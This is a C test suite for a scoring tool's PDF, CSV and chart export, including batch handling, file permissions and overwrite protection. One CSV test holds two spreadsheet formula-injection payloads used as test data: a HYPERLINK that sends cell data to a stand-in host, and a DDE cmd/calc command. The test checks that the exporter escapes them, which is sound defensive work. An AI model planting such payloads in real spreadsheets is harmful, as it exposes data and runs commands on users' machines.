/* test-export.c — scorebook --export and --export-chart, read back with poppler, with no display
 * Copyright 2026 The Scorebook authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>
#include <gio/gio.h>
#include <glib/gstdio.h>
#include <libxml/parser.h>

#include "sb-assessment-file.h"
#include "sb-csv.h"
#include "sb-test-run.h"
#include "sb-test-data.h"

static SbStandard *standard;
static char *tmp_dir;

static char *
tmp_path (const char *name)
{
  return g_build_filename (tmp_dir, name, NULL);
}

static char *
pdftotext (const char *path,
           gboolean    layout)
{
  const char *argv[] = { "pdftotext", "-enc", "UTF-8", layout ? "-layout" : "-raw", path, "-", NULL };
  g_auto(SbTestRun) run = { 0 };

  sb_test_run_argv (&run, argv);
  g_assert_cmpint (run.status, ==, 0);
  return g_steal_pointer (&run.out);
}

/* One field of pdfinfo's output, e.g. "Pages". */
static char *
pdfinfo (const char *path,
         const char *field)
{
  const char *argv[] = { "pdfinfo", "-enc", "UTF-8", path, NULL };
  g_auto(SbTestRun) run = { 0 };
  g_auto(GStrv) lines = NULL;
  g_autofree char *prefix = g_strconcat (field, ":", NULL);

  sb_test_run_argv (&run, argv);
  g_assert_cmpint (run.status, ==, 0);
  lines = g_strsplit (run.out, "\n", -1);
  for (guint i = 0; lines[i]; i++)
    if (g_str_has_prefix (lines[i], prefix))
      return g_strstrip (g_strdup (lines[i] + strlen (prefix)));
  return NULL;
}

/* The CJK faces a PDF embeds, by the region of their glyph forms: "sc",
 * "tc", "jp", "kr", "hk", one per face (pdffonts names them
 * "ABCDEF+NotoSansCJKsc-Regular"). */
static GPtrArray *
cjk_faces (const char *path)
{
  const char *argv[] = { "pdffonts", path, NULL };
  g_auto(SbTestRun) run = { 0 };
  g_auto(GStrv) lines = NULL;
  GPtrArray *faces = g_ptr_array_new_with_free_func (g_free);

  sb_test_run_argv (&run, argv);
  g_assert_cmpint (run.status, ==, 0);
  lines = g_strsplit (run.out, "\n", -1);
  for (guint i = 0; lines[i]; i++)
    {
      const char *cjk = strstr (lines[i], "CJK");

      if (cjk != NULL)
        g_ptr_array_add (faces, g_ascii_strdown (cjk + 3, 2));
    }
  return faces;
}

static void
assert_simplified_chinese (const char *path)
{
  g_autoptr(GPtrArray) faces = cjk_faces (path);

  g_assert_cmpuint (faces->len, >, 0);
  for (guint i = 0; i < faces->len; i++)
    g_assert_cmpstr (g_ptr_array_index (faces, i), ==, "sc");
}

/* In pdftotext -layout, a sub-item's row is a line that starts with its
 * number and ends with its points. */
static void
check_row_points (const char   *text,
                  SbAssessment *assessment,
                  const char   *id)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);
  g_autofree char *prefix = g_strconcat (id, " ", NULL);
  g_autofree char *points = NULL;
  SbScore score;
  const char *band;
  guint percent;

  sb_assessment_get_score (assessment, id, &score);
  points = sb_assessment_get_rating (assessment, id, &band, &percent) ? sb_points_format (score.points, 4)
                                                                      : g_strdup ("—");
  for (guint i = 0; lines[i]; i++)
    {
      g_autofree char *line = g_strstrip (g_strdup (lines[i]));

      if (g_str_has_prefix (line, prefix))
        {
          g_autofree char *suffix = g_strconcat (" ", points, NULL);

          if (!g_str_has_suffix (line, suffix))
            g_error ("row %s: “%s” does not end in %s", id, line, points);
          return;
        }
    }
  g_error ("no row for %s", id);
}

typedef struct
{
  const char *lang;
  const char *titles[2];
  const char *page_one;
} PdfCase;

static const PdfCase pdf_cases[] = {
  { "zh", { "深圳市市长质量奖评定标准", NULL }, "第 1 页，共 " },
  { "en", { "Shenzhen Mayor Quality Award Evaluation Standard", NULL }, "Page 1 of " },
  { "both", { "深圳市市长质量奖评定标准", "Shenzhen Mayor Quality Award Evaluation Standard" }, "Page 1 of " },
};

static void
test_pdf (gconstpointer data)
{
  const PdfCase *c = data;
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *input = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *name = g_strdup_printf ("full-%s.pdf", c->lang);
  g_autofree char *out = tmp_path (name);
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  GPtrArray *scored = sb_standard_get_scored_nodes (standard);
  g_autofree char *pages = NULL;
  g_autofree char *size = NULL;
  g_autofree char *text = NULL;
  g_autofree char *raw = NULL;
  g_autofree char *page_of = NULL;

  sb_test_run_scorebook (&run, "--export", out, "--lang", c->lang, "--paper", "a4", input, NULL);
  g_assert_cmpstr (run.err, ==, "");
  g_assert_cmpint (run.status, ==, 0);

  pages = pdfinfo (out, "Pages");
  g_assert_nonnull (pages);
  g_assert_cmpint (atoi (pages), >=, 3);
  size = pdfinfo (out, "Page size");
  g_assert_nonnull (strstr (size, "(A4)"));

  text = pdftotext (out, TRUE);
  raw = pdftotext (out, FALSE);
  for (guint i = 0; i < G_N_ELEMENTS (c->titles) && c->titles[i]; i++)
    g_assert_nonnull (strstr (raw, c->titles[i]));
  g_assert_nonnull (strstr (raw, "深圳市某某社区健康服务中心"));
  g_assert_nonnull (strstr (raw, "263.5"));
  g_assert_nonnull (strstr (raw, "/ 500"));
  g_assert_nonnull (strstr (raw, "52.7 %"));
  g_assert_nonnull (strstr (raw, c->page_one));
  page_of = g_strdup_printf ("%s %s", strstr (c->page_one, "Page") ? "of" : "共", pages);
  g_assert_nonnull (strstr (raw, page_of));
  g_assert_nonnull (strstr (raw, "assessment-full.scorebook"));
  /* Evidence notes stay out unless asked for. */
  g_assert_null (strstr (raw, "quarterly strategy meetings"));

  for (guint i = 0; i < scored->len; i++)
    check_row_points (text, assessment, sb_node_get_id (g_ptr_array_index (scored, i)));
  /* The applicant's name and the notes are Chinese in every language. */
  assert_simplified_chinese (out);
  g_unlink (out);
}

/* Whatever the summary's language, Chinese is drawn in its Simplified
 * glyph forms (test_pdf: the tests run in C.UTF-8, where fontconfig's
 * first CJK face is the Japanese one); an English summary with no Chinese
 * in it has no CJK face at all. */
static void
test_pdf_english_fonts (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *input = sb_test_fixture_path ("assessment-empty.scorebook");
  g_autofree char *out = tmp_path ("english.pdf");
  g_autoptr(GPtrArray) faces = NULL;

  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  faces = cjk_faces (out);
  g_assert_cmpuint (faces->len, ==, 0);
  g_unlink (out);
}

static void
test_pdf_notes_and_letter (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *input = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *out = tmp_path ("notes.pdf");
  g_autofree char *raw = NULL;
  g_autofree char *size = NULL;

  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", "--include-notes", "--paper", "letter", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  raw = pdftotext (out, FALSE);
  g_assert_nonnull (strstr (raw, "quarterly strategy meetings"));
  g_assert_nonnull (strstr (raw, "Annual plan 2025, p. 3"));
  size = pdfinfo (out, "Page size");
  g_assert_nonnull (strstr (size, "612 x 792"));
  g_unlink (out);
}

/* The CSV read back cell by cell against the model's roll-up. */
static void
test_csv (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *input = sb_test_fixture_path ("assessment-partial.scorebook");
  g_autofree char *out = tmp_path ("partial.csv");
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-partial.scorebook");
  g_autofree char *contents = NULL;
  g_autofree char *expected = NULL;
  g_auto(GStrv) lines = NULL;
  GPtrArray *nodes = sb_standard_get_nodes (standard);
  guint n_rated = 0;

  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_true (g_file_get_contents (out, &contents, NULL, NULL));
  expected = sb_csv_for_assessment (assessment, SB_LANG_EN);
  g_assert_cmpstr (contents, ==, expected);
  g_assert_true (g_str_has_prefix (contents, "\xEF\xBB\xBF" SB_CSV_HEADER "\r\n"));

  /* No note in this fixture has a line break, so lines are rows. */
  lines = g_strsplit (contents + 3, "\r\n", -1);
  for (guint i = 0; i < nodes->len; i++)
    {
      SbNode *node = g_ptr_array_index (nodes, i);
      const char *line = lines[i + 1];
      g_autofree char *prefix = g_strconcat (sb_node_get_id (node), ",", NULL);
      g_auto(GStrv) fields = NULL;
      SbScore score;

      g_assert_nonnull (line);
      g_assert_true (g_str_has_prefix (line, prefix));
      if (strchr (line, '"') != NULL)
        continue;
      fields = g_strsplit (line, ",", -1);
      sb_assessment_get_score (assessment, sb_node_get_id (node), &score);
      if (sb_node_is_scored (node) && fields[8][0] != '\0')
        {
          SbPoints points;

          g_assert_true (sb_points_parse (fields[8], &points));
          g_assert_cmpint (points, ==, score.points);
          n_rated++;
        }
    }
  g_assert_cmpuint (n_rated, >, 0);
  g_unlink (out);

  /* --lang zh: the same scores, the levels named in Chinese. */
  sb_test_run_clear (&run);
  g_clear_pointer (&contents, g_free);
  g_clear_pointer (&expected, g_free);
  sb_test_run_scorebook (&run, "--export", out, "--lang", "zh", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_true (g_file_get_contents (out, &contents, NULL, NULL));
  expected = sb_csv_for_assessment (assessment, SB_LANG_ZH);
  g_assert_cmpstr (contents, ==, expected);
  g_unlink (out);
}

/* --export x.csv with formulas in the notes, as a shared assessment may
 * hold them: each reaches the spreadsheet as text behind a single quote,
 * in a quoted cell, and the scores beside them stay bare numbers. */
static void
test_csv_formulas (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-empty.scorebook");
  g_autofree char *input = tmp_path ("formulas.scorebook");
  g_autofree char *out = tmp_path ("formulas.csv");
  g_autoptr(GFile) file = g_file_new_for_path (input);
  g_autoptr(GError) error = NULL;
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *contents = NULL;
  g_autofree char *expected = NULL;

  g_assert_true (sb_assessment_set_rating (assessment, "1.1.1", "process-4", 70, &error));
  g_assert_no_error (error);
  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_STRENGTH, 0,
                             "=HYPERLINK(\"http://example.com/\"&A1,\"Details\")");
  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_OPPORTUNITY, 0, "@SUM(1+1)*cmd|' /C calc'!A0");
  g_assert_true (sb_assessment_file_save (assessment, file, NULL, &error));
  g_assert_no_error (error);

  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_cmpstr (run.err, ==, "");
  g_assert_true (g_file_get_contents (out, &contents, NULL, NULL));
  expected = sb_csv_for_assessment (assessment, SB_LANG_EN);
  g_assert_cmpstr (contents, ==, expected);
  g_assert_nonnull (strstr (contents, ",70,21,\"'=HYPERLINK(\"\"http://example.com/\"\"&A1,\"\"Details\"\")\","
                                      "\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"));
  g_assert_null (strstr (contents, ",="));
  g_assert_null (strstr (contents, ",@"));
  g_unlink (out);
  g_unlink (input);
}

static gboolean
is_pdf (const char *path)
{
  g_autofree char *contents = NULL;

  return g_file_get_contents (path, &contents, NULL, NULL) && g_str_has_prefix (contents, "%PDF-");
}

/* The committee's batch: one file per assessment, named after it; each
 * failure on stderr as "FILE: message", and the others written anyway. */
static void
test_batch (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *partial = sb_test_fixture_path ("assessment-partial.scorebook");
  g_autofree char *empty = sb_test_fixture_path ("assessment-empty.scorebook");
  g_autofree char *missing = tmp_path ("missing.scorebook");
  g_autofree char *broken = tmp_path ("broken.scorebook");
  g_autofree char *dir = tmp_path ("batch");
  g_autofree char *dir_arg = g_strconcat (dir, "/", NULL);
  const char *names[] = { "assessment-full", "assessment-partial", "assessment-empty" };

  g_assert_true (g_file_set_contents (broken, "<assessment", -1, NULL));
  sb_test_run_scorebook (&run, "--export", dir_arg, "--lang", "en", full, missing, partial, broken, empty, NULL);
  g_assert_cmpint (run.status, ==, 1);
  g_assert_nonnull (strstr (run.err, missing));
  g_assert_nonnull (strstr (run.err, broken));
  {
    g_auto(GStrv) lines = g_strsplit (g_strstrip (run.err), "\n", -1);

    for (guint i = 0; lines[i]; i++)
      g_assert_true (g_str_has_prefix (lines[i], missing) || g_str_has_prefix (lines[i], broken));
  }
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autofree char *name = g_strconcat (names[i], ".pdf", NULL);
      g_autofree char *path = g_build_filename (dir, name, NULL);

      g_assert_true (is_pdf (path));
      g_unlink (path);
    }
  {
    g_autofree char *path = g_build_filename (dir, "missing.pdf", NULL);

    g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  }

  /* --format csv: the same, as spreadsheets. */
  sb_test_run_clear (&run);
  sb_test_run_scorebook (&run, "--export", dir_arg, "--format", "csv", full, empty, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_cmpstr (run.err, ==, "");
  for (guint i = 0; i < G_N_ELEMENTS (names); i += 2)
    {
      g_autofree char *name = g_strconcat (names[i], ".csv", NULL);
      g_autofree char *path = g_build_filename (dir, name, NULL);
      g_autofree char *contents = NULL;

      g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
      g_assert_true (g_str_has_prefix (contents, "\xEF\xBB\xBF" SB_CSV_HEADER));
      g_unlink (path);
    }
  g_rmdir (dir);
  g_unlink (broken);
}

/* Every failure of a batch is said in the order the files were given,
 * whether it is found before the summary is written (a name another
 * assessment has, an assessment in the way) or on loading: here a file
 * that does not load comes first, then a name clash, then an assessment
 * (through a link) where its own summary would go. */
static void
test_batch_failures_in_order (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_auto(GStrv) lines = NULL;
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *contents = NULL;
  g_autofree char *missing = tmp_path ("missing.scorebook");
  g_autofree char *other = tmp_path ("other");
  g_autofree char *twin = g_build_filename (other, "assessment-full.scorebook", NULL);
  g_autofree char *dir = tmp_path ("ordered");
  g_autofree char *dir_arg = g_strconcat (dir, "/", NULL);
  g_autofree char *in_the_way = g_build_filename (dir, "in-the-way.pdf", NULL);
  g_autofree char *link = g_build_filename (other, "in-the-way.scorebook", NULL);
  g_autoptr(GFile) link_file = g_file_new_for_path (link);
  g_autofree char *after = NULL;
  g_autofree char *written = g_build_filename (dir, "assessment-full.pdf", NULL);

  g_assert_true (g_file_get_contents (full, &contents, NULL, NULL));
  g_assert_cmpint (g_mkdir_with_parents (other, 0700), ==, 0);
  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_assert_true (g_file_set_contents (twin, contents, -1, NULL));
  g_assert_true (g_file_set_contents (in_the_way, contents, -1, NULL));
  g_assert_true (g_file_make_symbolic_link (link_file, in_the_way, NULL, NULL));

  sb_test_run_scorebook (&run, "--export", dir_arg, "--lang", "en", missing, full, twin, link, NULL);
  g_assert_cmpint (run.status, ==, 1);
  lines = g_strsplit (g_strstrip (run.err), "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 3);
  g_assert_true (g_str_has_prefix (lines[0], missing));
  g_assert_true (g_str_has_prefix (lines[1], twin));
  g_assert_nonnull (strstr (lines[1], "another assessment of this batch is already written to assessment-full.pdf"));
  g_assert_true (g_str_has_prefix (lines[2], in_the_way));
  g_assert_nonnull (strstr (lines[2], "will not write a summary or a chart over an assessment"));
  g_assert_true (is_pdf (written));
  g_assert_true (g_file_get_contents (in_the_way, &after, NULL, NULL));
  g_assert_cmpstr (after, ==, contents);

  g_unlink (link);
  g_unlink (written);
  g_unlink (in_the_way);
  g_unlink (twin);
  g_rmdir (dir);
  g_rmdir (other);
}

/* A PDF's bytes without its /CreationDate, the one thing that may differ
 * between two writings of the same summary. */
static char *
pdf_without_date (const char *path,
                  gsize      *length)
{
  static const char key[] = "/CreationDate (";
  g_autofree char *contents = NULL;
  char *date = NULL, *end;

  g_assert_true (g_file_get_contents (path, &contents, length, NULL));
  /* Binary streams hold NUL bytes: no string search. */
  for (gsize i = 0; date == NULL && i + strlen (key) <= *length; i++)
    if (memcmp (contents + i, key, strlen (key)) == 0)
      date = contents + i;
  g_assert_nonnull (date);
  end = memchr (date, ')', *length - (date - contents));
  g_assert_nonnull (end);
  memmove (date, end + 1, *length - (end + 1 - contents));
  *length -= end + 1 - date;
  return g_steal_pointer (&contents);
}

/* A batch is written on several threads at once: each of its summaries,
 * in each language, is byte for byte the summary of that file exported
 * alone (but for the date), and every one is there. More files than
 * the batch reads ahead, of different contents. */
static void
test_batch_same_as_alone (void)
{
  const char *fixtures[] = { "assessment-full", "assessment-partial", "assessment-consensus", "assessment-empty" };
  const char *langs[] = { "zh", "en" };
  g_autofree char *dir = tmp_path ("batch-same");
  g_autofree char *dir_arg = g_strconcat (dir, "/", NULL);
  g_autoptr(GPtrArray) argv = g_ptr_array_new_with_free_func (g_free);
  guint n_inputs = 13, first_input;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_ptr_array_add (argv, g_strdup (g_getenv ("SB_SCOREBOOK")));
  g_ptr_array_add (argv, g_strdup ("--export"));
  g_ptr_array_add (argv, g_strdup (dir_arg));
  g_ptr_array_add (argv, g_strdup ("--lang"));
  g_ptr_array_add (argv, NULL);
  first_input = argv->len;
  for (guint i = 0; i < n_inputs; i++)
    {
      g_autofree char *name = g_strconcat (fixtures[i % G_N_ELEMENTS (fixtures)], ".scorebook", NULL);
      g_autofree char *fixture = sb_test_fixture_path (name);
      g_autofree char *copy = g_strdup_printf ("%s/in-%02u.scorebook", dir, i);
      g_autofree char *contents = NULL;
      gsize length;

      g_assert_true (g_file_get_contents (fixture, &contents, &length, NULL));
      g_assert_true (g_file_set_contents (copy, contents, length, NULL));
      g_ptr_array_add (argv, g_steal_pointer (&copy));
    }
  g_ptr_array_add (argv, NULL);

  for (guint l = 0; l < G_N_ELEMENTS (langs); l++)
    {
      g_auto(SbTestRun) run = { 0 };

      g_free (argv->pdata[first_input - 1]);
      argv->pdata[first_input - 1] = g_strdup (langs[l]);
      sb_test_run_argv (&run, (const char **) argv->pdata);
      g_assert_cmpstr (run.err, ==, "");
      g_assert_cmpint (run.status, ==, 0);
      for (guint i = 0; i < n_inputs; i++)
        {
          g_auto(SbTestRun) alone = { 0 };
          g_autofree char *batch_pdf = g_strdup_printf ("%s/in-%02u.pdf", dir, i);
          g_autofree char *alone_pdf = g_strdup_printf ("%s/alone.pdf", dir);
          g_autofree char *batch_bytes = NULL, *alone_bytes = NULL;
          gsize batch_length, alone_length;

          sb_test_run_scorebook (&alone, "--export", alone_pdf, "--lang", langs[l],
                                 (const char *) argv->pdata[first_input + i], NULL);
          g_assert_cmpint (alone.status, ==, 0);
          batch_bytes = pdf_without_date (batch_pdf, &batch_length);
          alone_bytes = pdf_without_date (alone_pdf, &alone_length);
          g_assert_cmpmem (batch_bytes, batch_length, alone_bytes, alone_length);
          g_unlink (batch_pdf);
          g_unlink (alone_pdf);
        }
    }
  for (guint i = 0; i < n_inputs; i++)
    g_unlink (argv->pdata[first_input + i]);
  g_rmdir (dir);
}

static void
test_usage_errors (void)
{
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *out = tmp_path ("summary.txt");
  g_autofree char *pdf = tmp_path ("summary.pdf");
  g_autofree char *png = tmp_path ("chart.png");
  struct { const char *args[6]; } cases[] = {
    { { "--export", out, full, NULL } },                            /* no format */
    { { "--export", pdf, full, full, NULL } },                      /* several to one file */
    { { "--export", pdf, "--lang", "fr", full, NULL } },
    { { "--export", pdf, NULL } },
    { { "--export", pdf, "--format", "doc", full, NULL } },
    { { "--export-chart", out, full, NULL } },
    { { "--export-chart", png, "--size", "10x10", full, NULL } },
    { { "--export-chart", png, "--chart", "pie", full, NULL } },
    { { "--export-chart", png, "--level", "points", full, NULL } },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_auto(SbTestRun) run = { 0 };
      const char *argv[8] = { g_getenv ("SB_SCOREBOOK") };

      for (guint k = 0; cases[i].args[k]; k++)
        argv[k + 1] = cases[i].args[k];
      sb_test_run_argv (&run, argv);
      g_assert_cmpint (run.status, ==, 2);
      g_assert_cmpstr (run.err, !=, "");
      g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
      g_assert_false (g_file_test (pdf, G_FILE_TEST_EXISTS));
      g_assert_false (g_file_test (png, G_FILE_TEST_EXISTS));
    }
}

static guint32
read_be32 (const guchar *p)
{
  return ((guint32) p[0] << 24) | ((guint32) p[1] << 16) | ((guint32) p[2] << 8) | p[3];
}

static void
test_chart_png (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *partial = sb_test_fixture_path ("assessment-partial.scorebook");
  g_autofree char *out = tmp_path ("radar.png");
  g_autofree char *contents = NULL;
  gsize length;

  sb_test_run_scorebook (&run, "--export-chart", out, "--chart", "radar", "--level", "items", "--lang", "both",
                 "--size", "640x480", full, partial, NULL);
  g_assert_cmpstr (run.err, ==, "");
  g_assert_cmpint (run.status, ==, 0);
  g_assert_true (g_file_get_contents (out, &contents, &length, NULL));
  g_assert_cmpuint (length, >, 24);
  g_assert_cmpmem (contents, 8, "\x89PNG\r\n\x1a\n", 8);
  g_assert_cmpmem (contents + 12, 4, "IHDR", 4);
  g_assert_cmpuint (read_be32 ((const guchar *) contents + 16), ==, 640);
  g_assert_cmpuint (read_be32 ((const guchar *) contents + 20), ==, 480);
  g_unlink (out);
}

static void
test_chart_svg (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *out = tmp_path ("bars.svg");
  xmlDocPtr doc;
  xmlNodePtr root;
  xmlChar *width;

  sb_test_run_scorebook (&run, "--export-chart", out, "--chart", "bars", "--level", "subitems", "--lang", "en",
                 "--size", "900x700", full, NULL);
  g_assert_cmpint (run.status, ==, 0);
  doc = xmlReadFile (out, NULL, XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
  g_assert_nonnull (doc);
  root = xmlDocGetRootElement (doc);
  g_assert_cmpstr ((const char *) root->name, ==, "svg");
  width = xmlGetProp (root, (const xmlChar *) "width");
  g_assert_true (g_str_has_prefix ((const char *) width, "900"));
  xmlFree (width);
  xmlFreeDoc (doc);
  g_unlink (out);
}

static void
test_chart_pdf (void)
{
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *empty = sb_test_fixture_path ("assessment-empty.scorebook");
  g_autofree char *out = tmp_path ("chart.pdf");
  g_autofree char *pages = NULL;
  g_autofree char *size = NULL;

  sb_test_run_scorebook (&run, "--export-chart", out, "--lang", "zh", "--size", "500x400", full, empty, NULL);
  g_assert_cmpint (run.status, ==, 0);
  pages = pdfinfo (out, "Pages");
  g_assert_cmpstr (pages, ==, "1");
  size = pdfinfo (out, "Page size");
  g_assert_true (g_str_has_prefix (size, "500 x 400"));
  assert_simplified_chinese (out);
  g_unlink (out);
}

/* An assessment made for another standard is not scored or exported as
 * if it were this one's, unless --any-standard asks; its summary then
 * says so. */
static void
test_pdf_other_standard (void)
{
  g_auto(SbTestRun) refused = { 0 };
  g_auto(SbTestRun) scores = { 0 };
  g_auto(SbTestRun) run = { 0 };
  g_autofree char *fixture = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *input = tmp_path ("other.scorebook");
  g_autofree char *out = tmp_path ("other.pdf");
  g_autofree char *contents = NULL;
  g_autoptr(GString) text = NULL;
  g_autofree char *raw = NULL;
  g_autofree char *flat = NULL;

  g_assert_true (g_file_get_contents (fixture, &contents, NULL, NULL));
  text = g_string_new (contents);
  g_string_replace (text, "id=\"szmqa-2019-social\"", "id=\"szmqa-2017-enterprise\"", 1);
  g_assert_true (g_file_set_contents (input, text->str, text->len, NULL));

  sb_test_run_scorebook (&refused, "--export", out, "--lang", "en", input, NULL);
  g_assert_cmpint (refused.status, ==, 1);
  g_assert_nonnull (strstr (refused.err, "made for the standard “szmqa-2017-enterprise”"));
  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
  sb_test_run_scorebook (&scores, "--scores", input, NULL);
  g_assert_cmpint (scores.status, ==, 1);
  g_assert_cmpstr (scores.out, ==, "");
  g_assert_nonnull (strstr (scores.err, "--any-standard"));

  sb_test_run_scorebook (&run, "--export", out, "--lang", "en", "--any-standard", input, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_nonnull (strstr (run.err, "szmqa-2017-enterprise"));
  raw = pdftotext (out, FALSE);
  flat = g_strdelimit (g_strdup (raw), "\n", ' ');
  g_assert_nonnull (strstr (flat, "this assessment was made for the standard “szmqa-2017-enterprise”"));
  g_unlink (out);
  g_unlink (input);
}

/* A summary never takes the place of an assessment: not of its own input,
 * and not of any .scorebook (the output folder forgotten); and a failure
 * to write is blamed on the output, not on the assessment. */
static void
test_never_over_assessment (void)
{
  g_autofree char *fixture = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *a = tmp_path ("a.scorebook");
  g_autofree char *b = tmp_path ("b.scorebook");
  g_autofree char *contents = NULL;
  g_autofree char *after_a = NULL;
  g_autofree char *after_b = NULL;
  g_autofree char *unwritable = g_build_filename (tmp_dir, "no-such-folder", "out.pdf", NULL);
  g_auto(SbTestRun) self = { 0 };
  g_auto(SbTestRun) forgotten = { 0 };
  g_auto(SbTestRun) chart = { 0 };
  g_auto(SbTestRun) blamed = { 0 };

  g_assert_true (g_file_get_contents (fixture, &contents, NULL, NULL));
  g_assert_true (g_file_set_contents (a, contents, -1, NULL));
  g_assert_true (g_file_set_contents (b, contents, -1, NULL));

  sb_test_run_scorebook (&self, "--format", "csv", "--export", a, a, NULL);
  g_assert_cmpint (self.status, ==, 1);
  g_assert_nonnull (strstr (self.err, "will not write a summary or a chart over an assessment"));
  sb_test_run_scorebook (&forgotten, "--format", "pdf", "--export", a, b, NULL);
  g_assert_cmpint (forgotten.status, ==, 1);
  sb_test_run_scorebook (&chart, "--export-chart", a, b, NULL);
  g_assert_cmpint (chart.status, ==, 1);
  g_assert_true (g_file_get_contents (a, &after_a, NULL, NULL));
  g_assert_true (g_file_get_contents (b, &after_b, NULL, NULL));
  g_assert_cmpstr (after_a, ==, contents);
  g_assert_cmpstr (after_b, ==, contents);

  sb_test_run_scorebook (&blamed, "--export", unwritable, a, NULL);
  g_assert_cmpint (blamed.status, ==, 1);
  g_assert_true (g_str_has_prefix (blamed.err, unwritable));
  g_unlink (a);
  g_unlink (b);
}

static guint
file_mode (const char *path)
{
  GStatBuf buf;

  g_assert_cmpint (g_stat (path, &buf), ==, 0);
  return buf.st_mode & 0777;
}

/* Summaries and charts are as private as the assessment they come from:
 * 0600 whether the file is new or was there, world-readable, before. */
static void
test_private (void)
{
  g_autofree char *full = sb_test_fixture_path ("assessment-full.scorebook");
  const char *names[] = { "private.pdf", "private.csv", "private.png", "private.svg", "private-chart.pdf" };

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    for (guint existing = 0; existing < 2; existing++)
      {
        g_auto(SbTestRun) run = { 0 };
        g_autofree char *out = tmp_path (names[i]);
        gboolean chart = i >= 2;

        if (existing)
          {
            g_assert_true (g_file_set_contents (out, "old", -1, NULL));
            g_assert_cmpint (g_chmod (out, 0644), ==, 0);
          }
        if (chart)
          sb_test_run_scorebook (&run, "--export-chart", out, full, NULL);
        else
          sb_test_run_scorebook (&run, "--export", out, "--include-notes", full, NULL);
        g_assert_cmpstr (run.err, ==, "");
        g_assert_cmpint (run.status, ==, 0);
        g_assert_cmpuint (file_mode (out), ==, 0600);
        g_unlink (out);
      }
}

int
main (int   argc,
      char *argv[])
{
  g_autoptr(GError) error = NULL;
  int status;

  g_test_init (&argc, &argv, NULL);
  standard = sb_test_bundled_standard ();
  tmp_dir = g_dir_make_tmp ("test-export-XXXXXX", &error);
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (pdf_cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/export/pdf/%s", pdf_cases[i].lang);

      g_test_add_data_func (path, &pdf_cases[i], test_pdf);
    }
  g_test_add_func ("/export/pdf/notes-letter", test_pdf_notes_and_letter);
  g_test_add_func ("/export/pdf/english-fonts", test_pdf_english_fonts);
  g_test_add_func ("/export/csv", test_csv);
  g_test_add_func ("/export/csv-formulas", test_csv_formulas);
  g_test_add_func ("/export/batch", test_batch);
  g_test_add_func ("/export/batch/same-as-alone", test_batch_same_as_alone);
  g_test_add_func ("/export/batch/failures-in-order", test_batch_failures_in_order);
  g_test_add_func ("/export/usage-errors", test_usage_errors);
  g_test_add_func ("/export/chart/png", test_chart_png);
  g_test_add_func ("/export/chart/svg", test_chart_svg);
  g_test_add_func ("/export/chart/pdf", test_chart_pdf);
  g_test_add_func ("/export/private", test_private);
  g_test_add_func ("/export/pdf/other-standard", test_pdf_other_standard);
  g_test_add_func ("/export/never-over-assessment", test_never_over_assessment);

  status = g_test_run ();
  g_rmdir (tmp_dir);
  g_free (tmp_dir);
  g_clear_object (&standard);
  return status;
}
